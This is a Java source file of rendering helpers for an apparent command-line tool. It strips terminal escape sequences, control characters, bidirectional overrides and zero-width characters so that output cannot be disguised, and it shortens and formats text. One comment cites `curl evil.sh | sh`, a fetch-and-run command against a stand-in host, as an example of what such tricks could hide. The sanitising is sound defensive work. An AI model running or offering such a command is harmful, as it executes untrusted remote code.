package dev.dockhand.cli.environment;

import dev.dockhand.core.Utf16;
import java.time.Duration;
import java.util.Arrays;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Small text helpers shared by the renderers. */
public final class Rendering {
    private static final int SUMMARY_CHARS = 80;

    private Rendering() {}

    /** Escape sequences (CSI and OSC) a command or a model may print, colours and cursor moves included. */
    private static final Pattern ESCAPES =
            Pattern.compile("\u001B\\[[0-?]*[ -/]*[@-~]|\u001B\\][^\u0007\u001B]*(\u0007|\u001B\\\\)?|\u001B.");

    /**
     * One line made safe to show: escape sequences and control characters removed, tabs as spaces. Neither a command's
     * output nor the model's text may move the cursor, retitle the window or recolour the screen. Bidirectional
     * overrides and isolates, and invisible zero-width characters, are removed too: on a terminal that honours them
     * they reorder or hide what a line says ({@code curl evil.sh | sh} shown as something else in a hook's command the
     * trust question lists). Letters of right-to-left scripts stay.
     */
    public static String printable(String line) {
        boolean[] kept = kept(line);
        StringBuilder out = new StringBuilder(line.length());
        for (int i = 0; i < line.length(); i++) {
            if (kept[i]) {
                char c = line.charAt(i);
                out.append(c == '\t' ? "    " : String.valueOf(c));
            }
        }
        return out.toString();
    }

    /** Which characters of {@code line} {@link #printable} keeps (a tab it keeps becomes spaces). */
    public static boolean[] kept(String line) {
        boolean[] kept = new boolean[line.length()];
        Arrays.fill(kept, true);
        Matcher escape = ESCAPES.matcher(line);
        while (escape.find()) {
            Arrays.fill(kept, escape.start(), escape.end(), false);
        }
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            kept[i] &= c == '\t' || (c >= 0x20 && c != 0x7f && (c < 0x80 || c > 0x9f) && !hidden(c));
        }
        return kept;
    }

    /**
     * Zero-width spaces and joiners, the bidirectional marks, embeddings, overrides and isolates, the word joiner and
     * invisible operators, and the byte order mark.
     */
    static boolean hidden(char c) {
        return (c >= 0x200B && c <= 0x200F)
                || (c >= 0x202A && c <= 0x202E)
                || (c >= 0x2060 && c <= 0x2069)
                || c == 0xFEFF;
    }

    /** One line, at most 80 characters, for a summary shown beside a tool name. */
    public static String shorten(String text) {
        String line = text.strip().replace('\n', ' ').replace('\r', ' ');
        return line.length() <= SUMMARY_CHARS ? line : Utf16.head(line, SUMMARY_CHARS - 1) + "…";
    }

    /** 850 ms, 1.2 s, 2 m 5 s. */
    public static String duration(Duration duration) {
        long millis = duration.toMillis();
        if (millis < 1000) {
            return millis + " ms";
        }
        if (millis < 60_000) {
            return String.format(Locale.ROOT, "%.1f s", millis / 1000.0);
        }
        return duration.toMinutes() + " m " + duration.toSecondsPart() + " s";
    }
}
